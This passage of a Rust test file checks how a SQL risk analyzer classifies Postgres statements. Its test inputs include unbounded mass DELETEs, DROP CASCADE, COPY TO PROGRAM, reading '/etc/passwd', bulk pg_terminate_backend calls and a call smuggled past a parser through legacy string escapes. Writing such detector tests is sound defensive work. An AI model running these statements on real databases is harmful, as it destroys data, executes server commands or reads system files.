        "UPDATE orders SET x = 1 WHERE 1=1",
        "DELETE FROM orders WHERE 'a'='a'",
        "DELETE FROM orders WHERE x = x",
        "DELETE FROM orders WHERE id IS NOT DISTINCT FROM id",
        "DELETE FROM orders WHERE id = 1 OR true",
        "DELETE FROM orders WHERE NOT false",
        "DELETE FROM orders WHERE true AND true",
        "DELETE FROM orders WHERE 2 > 1",
        "DELETE FROM orders WHERE 1 <> 2",
        "DELETE FROM orders WHERE 't'::boolean",
        "DELETE FROM orders WHERE EXISTS (SELECT 1)",
        "DELETE FROM orders WHERE x IS NULL OR x IS NOT NULL",
        "UPDATE orders SET x = 1 FROM customers c WHERE true",
        "DELETE FROM orders USING customers c WHERE c.id = c.id",
    ] {
        let a = pg(sql);
        assert_eq!(a.risk, Risk::Destructive, "{sql}");
        assert_eq!(rules(&a), vec!["unbounded-write"], "{sql}");
    }
    for sql in [
        "DELETE FROM orders WHERE id = 1",
        "DELETE FROM orders WHERE true AND id = 1",
        "UPDATE orders o SET x = 1 FROM customers c WHERE o.customer_id = c.id",
    ] {
        assert_eq!(pg(sql).risk, Risk::Write, "{sql}");
    }
}

#[test]
fn drop_cascade_of_any_object_is_destructive() {
    for sql in [
        "DROP TYPE mood CASCADE",
        "DROP DOMAIN d CASCADE",
        "DROP SCHEMA s CASCADE",
        "DROP FUNCTION f() CASCADE",
        "ALTER TABLE t DROP COLUMN c CASCADE",
        "ALTER TABLE t DROP CONSTRAINT c CASCADE",
    ] {
        let a = pg(sql);
        assert_eq!(a.risk, Risk::Destructive, "{sql}");
        assert!(
            a.statements[0]
                .reasons
                .iter()
                .any(|r| r.contains("CASCADE")),
            "{sql}: {:?}",
            a.statements[0].reasons
        );
    }
    assert_eq!(pg("DROP TYPE mood").risk, Risk::Schema);
}

#[test]
fn untrusted_code_extensions_and_server_access_are_privilege() {
    for sql in [
        "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'f'",
        "CREATE FUNCTION f() RETURNS int LANGUAGE internal AS 'int4in'",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
        "ALTER FUNCTION f() SECURITY DEFINER",
        "CREATE EXTENSION dblink",
        "CREATE LANGUAGE plperlu",
        "ALTER SYSTEM SET work_mem = '1GB'",
        "COPY t TO PROGRAM 'id'",
        "COPY t FROM '/etc/passwd'",
        "CREATE FOREIGN DATA WRAPPER w",
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
        "CREATE USER MAPPING FOR PUBLIC SERVER s",
        "DO LANGUAGE plpython3u $$ import os $$",
    ] {
        assert_eq!(pg(sql).risk, Risk::Privilege, "{sql}");
    }
    assert_eq!(
        pg("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'").risk,
        Risk::Schema
    );
}

#[test]
fn disabling_triggers_and_moving_sequences_are_schema_with_a_finding() {
    for (sql, rule) in [
        ("ALTER TABLE orders DISABLE TRIGGER ALL", "disable-trigger"),
        ("ALTER SEQUENCE orders_id_seq RESTART", "sequence-restart"),
        ("SELECT setval('orders_id_seq', 1)", "sequence-setval"),
    ] {
        let a = pg(sql);
        assert_eq!(a.risk, Risk::Schema, "{sql}");
        assert!(rules(&a).contains(&rule), "{sql}: {:?}", rules(&a));
    }
}

#[test]
fn objects_that_change_other_statements_are_at_least_schema() {
    for (sql, kind) in [
        (
            "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = f)",
            "create_operator",
        ),
        (
            "CREATE CAST (text AS int) WITH FUNCTION f(text)",
            "create_cast",
        ),
        (
            "CREATE AGGREGATE public.count(inet) (SFUNC = f, STYPE = int)",
            "create_aggregate",
        ),
        ("CREATE TYPE t AS (a int)", "create_type"),
        (
            "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u",
            "create_rule",
        ),
    ] {
        let a = pg(sql);
        assert_eq!(
            (a.risk, a.statements[0].kind.as_str()),
            (Risk::Schema, kind),
            "{sql}"
        );
    }
}

#[test]
fn signals_over_a_set_without_a_scope_get_the_unscoped_signal_finding() {
    for sql in [
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle'",
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE pid = $1 OR true",
    ] {
        let a = pg(sql);
        assert_eq!(
            (a.risk, rules(&a)),
            (Risk::Write, vec!["unscoped-signal"]),
            "{sql}"
        );
    }
    for sql in [
        "SELECT pg_terminate_backend(4242)",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid = $1",
    ] {
        let a = pg(sql);
        assert_eq!((a.risk, rules(&a)), (Risk::Write, vec![]), "{sql}");
    }
}

#[test]
fn signals_scoped_by_application_or_user_but_not_one_pid_are_multi_session() {
    for sql in [
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'x' AND state = 'idle'",
        "SELECT pg_cancel_backend(a.pid) FROM pg_stat_activity a WHERE a.usename IN ('batch')",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid = ANY($1)",
        "SELECT pg_terminate_backend(a.pid, 5000) FROM pg_stat_activity a WHERE a.application_name = $1 \
         AND a.backend_type = 'client backend' ORDER BY a.state_change LIMIT $2",
    ] {
        let a = pg(sql);
        assert_eq!(
            (a.risk, rules(&a)),
            (Risk::Write, vec!["multi-session-signal"]),
            "{sql}"
        );
    }
    for sql in [
        "SELECT pg_terminate_backend(4242)",
        "SELECT pg_cancel_backend(a.pid) FROM pg_stat_activity a WHERE a.pid = $1 AND a.backend_type = 'client backend'",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid = 17 AND application_name = 'x'",
    ] {
        let a = pg(sql);
        assert_eq!((a.risk, rules(&a)), (Risk::Write, vec![]), "{sql}");
    }
}

#[test]
fn a_call_hidden_in_a_literal_only_under_legacy_string_escapes_is_still_seen() {
    // With standard_conforming_strings = off, `'\''` is one quote and the
    // call below is real; libpg_query alone would read one long literal.
    let a = pg("SELECT '\\'' AS a, pg_terminate_backend(1) -- '");
    assert_eq!(a.risk, Risk::Write, "{:?}", a.statements[0].reasons);
    assert!(
        a.statements[0]
            .reasons
            .iter()
            .any(|r| r.contains("standard_conforming_strings = off")),
        "{:?}",
        a.statements[0].reasons
    );
    assert_eq!(pg("SELECT E'\\\\d+' AS pattern").risk, Risk::ReadOnly);
}

#[test]
fn raising_an_analysis_raises_every_statement_and_never_lowers() {
    let an = Analyzer::default();
    let mut a = an.analyze(Engine::Postgres, "SELECT 1; DELETE FROM t WHERE id = 1");
    let before: Vec<Risk> = a.statements.iter().map(|s| s.risk).collect();
    assert_eq!(before, [Risk::ReadOnly, Risk::Write]);
    a.raise(Risk::Write, "found later");
    assert_eq!(
        a.statements
            .iter()
            .map(|s| (s.risk, s.reasons.last().map(String::as_str)))
            .collect::<Vec<_>>(),
        [
            (Risk::Write, Some("found later")),
            (Risk::Write, Some("found later"))
        ]
    );
    // The whole was already unknown (two statements) and stays so.
    assert_eq!(a.risk, Risk::Unknown);
    let mut read = an.analyze(Engine::Postgres, "SELECT 1");
    read.raise(Risk::Unknown, "catalog: a view calls f()");
    assert_eq!(
        (read.risk, read.statements[0].risk),
        (Risk::Unknown, Risk::Unknown)
    );
}

#[test]
fn a_two_sample_statistics_window_with_pg_sleep_and_pg_stat_clear_snapshot_is_read_only() {
    let a = pg(
        "WITH first_sample AS MATERIALIZED (SELECT relid, seq_tup_read FROM pg_stat_user_tables), \
         pause AS MATERIALIZED (SELECT f.n, pg_stat_clear_snapshot() AS cleared, pg_sleep(10) AS slept \
           FROM (SELECT count(*) AS n FROM first_sample) f) \
         SELECT s.relid, s.seq_tup_read - f.seq_tup_read AS window_seq_tup_read \
         FROM pg_stat_user_tables s JOIN first_sample f ON f.relid = s.relid \
         WHERE (SELECT p.n FROM pause p) >= 0",
    );
    assert_eq!(a.risk, Risk::ReadOnly, "{a:?}");
}

#[test]
fn listing_temp_and_log_files_is_read_only_but_listing_any_directory_is_a_privilege() {
    let risks: Vec<Risk> = [
        "SELECT name, size FROM pg_tablespace t CROSS JOIN LATERAL pg_ls_tmpdir(t.oid) f",
        "SELECT sum(size) FROM pg_ls_logdir()",
        "SELECT backend_type, sum(reads) FROM pg_stat_get_io() GROUP BY 1",
        "SELECT f FROM pg_ls_dir('base/16384') f",
    ]
    .iter()
    .map(|sql| pg(sql).risk)
    .collect();
    assert_eq!(
        risks,
        [
            Risk::ReadOnly,
            Risk::ReadOnly,
            Risk::ReadOnly,
            Risk::Privilege
        ]
    );
}
